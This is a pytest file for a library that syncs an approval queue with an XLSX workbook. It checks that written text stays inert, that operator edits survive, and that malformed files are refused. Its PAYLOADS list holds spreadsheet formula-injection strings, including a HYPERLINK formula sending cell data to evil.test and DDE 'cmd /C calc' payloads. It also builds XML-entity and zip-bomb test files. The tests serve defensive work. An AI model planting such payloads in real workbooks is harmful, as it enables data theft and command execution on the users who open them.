"""The XLSX file itself: what the operator made survives, what we write is plain, and nothing is lost or broken."""

import zipfile
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from openpyxl.cell.rich_text import CellRichText, TextBlock
from openpyxl.cell.text import InlineFont
from sheet_examples import SCHEMA, proposal, question
from sheet_worlds import ExcelWorld

from sheets_sync.errors import ColumnsWrong, WorkbookBroken
from sheets_sync.excel import ExcelWorkbook, archive
from sheets_sync.row import Odd
from sheets_sync.schema import Column, Schema

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.test?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "#REF!",
    "'=1+1",
    " =1+1",
    "007",
    "1e5",
    "2026-05-01",
    "TRUE",
    "_x0041_",
    "x005F_x",
    "\\x41",
    "\x00\x07\x1b[31m",
    "a\r\nb",
    "\ufffe\ud800",
    "  spaces  ",
    "é",
]


@pytest.fixture
def world(tmp_path):
    world = ExcelWorld(proposal(1), proposal(2), question(3, "Business", "Private"), folder=tmp_path)
    world.sync()
    return world


def edit(world, change):
    book = openpyxl.load_workbook(world.path, rich_text=True)
    change(book, book[SCHEMA.sheet])
    book.save(world.path)


def repack(path, change):
    """Rewrite the parts of an XLSX file as a desktop program might have saved them."""
    with zipfile.ZipFile(path) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    change(parts)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name, part in parts.items():
            new.writestr(name, part)


# what we write


@pytest.mark.parametrize("text", PAYLOADS, ids=ascii)
def test_text_is_text_and_comes_back_as_it_was(text, tmp_path):
    world = ExcelWorld(proposal(1, cells={"title": text, "content": f"x {text}"}), folder=tmp_path)
    world.sync()

    assert (world.content("title"), world.content("content")) == ([text], [f"x {text}"])
    sheet = openpyxl.load_workbook(world.path)[SCHEMA.sheet]
    assert {cell.data_type for line in sheet for cell in line} <= {"s", "n"}
    assert not world.sync().added, "the row is known again"


def test_numbers_and_days_are_numbers_and_days(world):
    sheet = openpyxl.load_workbook(world.path)[SCHEMA.sheet]

    assert (sheet["E2"].value, sheet["E2"].number_format) == (199.5, "#,##0.00##")
    assert (sheet["F2"].value.date(), sheet["F2"].number_format) == (date(2026, 5, 1), "yyyy-mm-dd")
    assert world.content("amount")[0] == Decimal("199.5")


def test_system_cells_are_locked_and_human_cells_are_not(world):
    sheet = openpyxl.load_workbook(world.path)[SCHEMA.sheet]

    assert sheet.protection.sheet
    assert sheet.protection.password is None
    assert not any((sheet.protection.sort, sheet.protection.autoFilter, sheet.protection.deleteRows))
    assert [cell.protection.locked for cell in sheet[2]] == [True] * 7 + [False] * 3
    assert [sheet.column_dimensions[letter].hidden for letter in "ABC"] == [True, True, False]
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:J4")


def test_dropdowns_are_found_by_key_and_hash(world):
    book = openpyxl.load_workbook(world.path)

    assert book["sync lists"].sheet_state == "hidden"
    assert [cell.value for cell in book["sync lists"][4]] == [
        "question/3 h3 choice", 2, "Business", "Private", None, None, None,
    ]  # fmt: skip
    assert [one.formula1 for one in book[SCHEMA.sheet].data_validations.dataValidation] == [
        "list_of_decision",
        "list_of_choice",
    ]


def test_a_column_of_words_has_its_own_dropdown(tmp_path):
    urgency = Column("urgency", "Urgency", owner="human", kind="choice", choices=("high", "low"))
    schema = Schema("Queue", (*SCHEMA.columns, urgency))
    workbook = ExcelWorkbook(tmp_path / "queue.xlsx")

    workbook.write(schema, workbook.read(schema), [proposal(1)], {})

    book = openpyxl.load_workbook(tmp_path / "queue.xlsx")
    assert [cell.value for cell in book["sync lists"][1]][:4] == ["column urgency", 2, "high", "low"]
    assert '"column urgency"' in book.defined_names["list_of_urgency"].attr_text


# what the operator made


def test_rich_text_of_the_operators_own_keeps_its_blanks(world):
    text = CellRichText(["a ", TextBlock(InlineFont(b=True), "bold"), " ", "word"])
    edit(world, lambda book, sheet: book.create_sheet("My sheet").__setitem__("A1", text))
    world.queue.put(proposal(4))
    world.sync()

    kept = openpyxl.load_workbook(world.path, rich_text=True)["My sheet"]["A1"].value
    assert str(kept) == "a bold word"
    assert kept[1].font.b


def test_columns_and_the_header_may_be_moved_and_the_sheet_renamed(world):
    def move(book, sheet):
        sheet.protection.sheet = False
        sheet.insert_cols(3)
        sheet.insert_rows(1, amount=2)
        sheet.title = "What waits"
        sheet["I4"] = "reject"  # `decision`, one column further right, two lines further down

    edit(world, move)
    world.queue.put(proposal(4))
    world.sync()

    assert world.words() == [("proposal/1", "reject")]
    book = openpyxl.load_workbook(world.path)
    assert SCHEMA.sheet not in book.sheetnames
    assert book["What waits"]["A7"].value == "proposal/4"
    assert not book["What waits"].protection.sheet, "the operator's choice stays"


def test_our_sheet_is_added_to_a_workbook_of_the_operators_own(tmp_path):
    book = openpyxl.Workbook()
    book.active["A1"] = "mine"
    book.save(tmp_path / "approvals.xlsx")
    world = ExcelWorld(proposal(1), folder=tmp_path)

    world.sync()

    book = openpyxl.load_workbook(world.path)
    assert book.sheetnames == ["Queue", "Sheet", "How this works", "sync lists"]
    assert book["Sheet"]["A1"].value == "mine"
    assert [sheet.title for sheet in book if sheet.sheet_view.tabSelected] == ["Queue"]


@pytest.mark.parametrize("spoil", [("H1", "Decide"), ("K1", "decision")], ids=["missing", "twice"])
def test_a_missing_or_doubled_column_is_told_and_nothing_is_written(world, spoil):
    edit(world, lambda book, sheet: sheet.__setitem__(*spoil))
    before = world.path.read_bytes()

    with pytest.raises(ColumnsWrong, match="decision"):
        world.sync()
    assert world.path.read_bytes() == before


# what is read


@pytest.mark.parametrize(
    ("entry", "found"),
    [
        ('="app"&"rove"', Odd("a formula")),
        ("#REF!", Odd("an error value")),
        (True, Odd("a true/false value")),
        (7, Decimal(7)),
        (date(2026, 5, 1), date(2026, 5, 1)),
        (CellRichText(["app", TextBlock(InlineFont(b=True), "rove")]), "approve"),
    ],
    ids=str,
)
def test_an_entry_is_read_as_what_it_plainly_is(world, entry, found):
    edit(world, lambda book, sheet: sheet.__setitem__("H2", entry))

    assert world.workbook.read(SCHEMA).rows[0].entered["decision"] == found


def test_a_linked_word_is_no_decision_and_a_linked_note_is_a_note(world):
    def link(book, sheet):
        for address, text in (("H2", "approve"), ("J3", "ada@example.com")):
            sheet[address] = text
            sheet[address].hyperlink = "http://example.com"

    edit(world, link)
    first, second, _ = world.workbook.read(SCHEMA).rows

    assert first.entered["decision"] == Odd("a link")
    assert second.entered["note"] == "ada@example.com"


# what is refused


def _far_merge(parts):
    name = "xl/worksheets/sheet1.xml"
    merges = b'<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells><pageMargins'
    parts[name] = parts[name].replace(b"<pageMargins", merges, 1)


def _strict(parts):
    old, new = b"http://schemas.openxmlformats.org/", b"http://purl.oclc.org/ooxml/"
    for name in ("xl/workbook.xml", "xl/_rels/workbook.xml.rels"):
        parts[name] = parts[name].replace(old, new)


def _entities(parts):
    parts["xl/workbook.xml"] = b"<!DOCTYPE x [<!ENTITY a 'b'>]>" + parts["xl/workbook.xml"]


BROKEN = {
    "entities": _entities,
    "bomb": lambda parts: parts.update({"xl/media/x.bin": bytes(archive.MAX_UNPACKED_BYTES)}),
    "far merge": _far_merge,
    "too many cells": lambda parts: parts.update({"xl/worksheets/sheet9.xml": b"<c/>" * (archive.MAX_CELLS + 1)}),
    "no sheet": lambda parts: parts.pop("xl/worksheets/sheet1.xml"),
    "strict": _strict,
}  # fmt: skip


@pytest.mark.filterwarnings("ignore::UserWarning")
@pytest.mark.parametrize("kind", BROKEN)
def test_a_harmful_or_unreadable_file_is_an_error_and_never_written_over(world, kind):
    repack(world.path, BROKEN[kind])
    before = world.path.read_bytes()

    with pytest.raises(WorkbookBroken):
        world.sync()
    assert world.path.read_bytes() == before


def _into_sheet(element):
    def change(parts):
        name = "xl/worksheets/sheet1.xml"
        parts[name] = parts[name].replace(b"</worksheet>", element + b"</worksheet>")

    return change


def _merge_keeping_all(sheet):
    merged = b'<mergeCells count="1"><mergeCell ref="A3:A4"/></mergeCells><pageMargins'
    return sheet.replace(b"<pageMargins", merged, 1)


MAIN = b"http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
X14 = b'<extLst><ext xmlns:x14="' + MAIN + b'" uri="{0}">%s</ext></extLst>'
LOST = {
    "sparklines": _into_sheet(X14 % b"<x14:sparklineGroups><x14:sparklineGroup/></x14:sparklineGroups>"),
    "newer dropdowns": _into_sheet(X14 % b"<x14:dataValidations><x14:dataValidation/></x14:dataValidations>"),
    "newer conditional formats": _into_sheet(X14 % b"<x14:conditionalFormatting/>"),
    "form controls": lambda parts: parts.update({"xl/ctrlProps/ctrlProp1.xml": b"<formControlPr/>"}),
    "what is hidden under merged cells": lambda parts: parts.update(
        {"xl/worksheets/sheet2.xml": _merge_keeping_all(parts["xl/worksheets/sheet2.xml"])}
    ),
    "texts that are plain and rich at once": lambda parts: parts.update(
        {"xl/sharedStrings.xml": b"<sst><si><t>a</t><r><t>b</t></r></si></sst>"}
    ),
    "slicers": lambda parts: parts.update({"xl/slicers/slicer1.xml": b"<slicers/>"}),
    "threaded comments": lambda parts: parts.update({"xl/threadedComments/threadedComment1.xml": b"<x/>"}),
    "macros": lambda parts: parts.update({"xl/vbaProject.bin": b"x"}),
    "shapes or text boxes": lambda parts: parts.update(
        {"xl/drawings/drawing1.xml": b"<xdr:wsDr><xdr:sp/></xdr:wsDr>"}
    ),
    "xl/unheardOf.xml": lambda parts: parts.update({"xl/unheardOf.xml": b"<x/>"}),
}


@pytest.mark.filterwarnings("ignore::UserWarning")
@pytest.mark.parametrize("what", LOST)
def test_what_a_save_would_lose_holds_the_workbook_and_is_named(world, what):
    world.enter("proposal/1", "approve")
    repack(world.path, LOST[what])
    before = world.path.read_bytes()

    report = world.sync()

    assert world.words() == [("proposal/1", "approve")]
    assert f"saving would lose {what}" in report.held.replace("an extension of a worksheet, ", "")
    assert report.waiting == 1
    assert world.path.read_bytes() == before


def test_an_ordinary_workbook_is_not_held(world):
    assert not world.workbook.read(SCHEMA).held
